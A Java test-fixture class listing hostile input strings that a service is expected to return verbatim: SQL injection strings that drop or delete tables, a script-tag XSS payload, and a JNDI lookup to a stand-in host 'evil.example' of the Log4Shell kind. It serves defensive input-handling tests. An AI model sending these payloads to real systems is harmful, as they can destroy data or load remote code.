package org.dialoog.testkit;

import java.util.List;

/** Text that would do harm if a service ever built SQL, HTML or log lookups from it: it must come back verbatim. */
public final class HostileText {

    public static final List<String> SAMPLES = List.of(
            "'; DROP TABLE engagement; --",
            "\" OR 1=1 --",
            "<script>alert('x')</script>",
            "${jndi:ldap://evil.example/a}",
            "Robert'); DELETE FROM participant WHERE ('1'='1",
            "%' OR title LIKE '%");

    private HostileText() {}
}
